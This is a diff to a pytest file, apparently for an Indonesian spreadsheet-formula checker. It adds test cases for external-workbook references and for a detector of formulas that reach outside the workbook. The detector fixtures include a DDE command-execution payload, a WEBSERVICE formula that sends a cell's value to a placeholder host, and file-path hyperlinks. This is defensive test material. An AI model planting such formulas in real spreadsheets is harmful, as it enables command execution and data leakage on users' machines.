@@ -70,12 +70,29 @@ def test_normalkan(teks, normal):
 
 
 # formula text, refers to an external workbook?
-EKSTERNAL = [("[1]Sheet1!A1*2", True), ("[2]!Nama", True), ('"[1]"&A1', False), ("tblX[Kolom]", False)]
+EKSTERNAL = [("[1]Sheet1!A1*2", True), ("[2]!Nama", True), ('"[1]"&A1', False), ("tblX[Kolom]", False),
+             ("'C:\\Users\\budi\\[lain.xlsx]Data'!$B$2", True), ("[lain.xlsx]Data!A1", True),
+             ("'\\\\server\\share\\[a.xlsm]S'!A1+1", True), ("'Data Saya'!A1", False),
+             ("tblRealisasi[[#This Row],[Jumlah]]", False), ('"C:\\[x.xlsx]"&A1', False)]
 
 
 @pytest.mark.parametrize("teks, eksternal", EKSTERNAL)
 def test_rujuk_eksternal(teks, eksternal):
     assert rumus.rujuk_eksternal(teks) is eksternal
+
+
+# formula text, a word of the reason it reaches outside the workbook (None: it does not)
+LUAR = [("cmd|' /C calc'!A0", "DDE"), ('WEBSERVICE("http://x.invalid/"&A1)', "WEBSERVICE"),
+        ('_xlfn.WEBSERVICE(A1)', "WEBSERVICE"), ('IFERROR(RTD("srv",,"x"),0)', "RTD"),
+        ('HYPERLINK("file:///C:/Users/budi/a.xlsx","buka")', "berkas"), ('HYPERLINK("\\\\srv\\a.xlsx")', "berkas"),
+        ('HYPERLINK("https://sakip.go.id","buka")', None), ('"a|b"&A1', None), ("SUM(A1:A3)", None),
+        ('"WEBSERVICE("&A1', None)]
+
+
+@pytest.mark.parametrize("teks, kata", LUAR)
+def test_menjangkau_luar(teks, kata):
+    sebab = rumus.menjangkau_luar(teks)
+    assert (sebab is None) if kata is None else (kata in sebab)
 
 
 # --------------------------------------------------------------------------------------------------
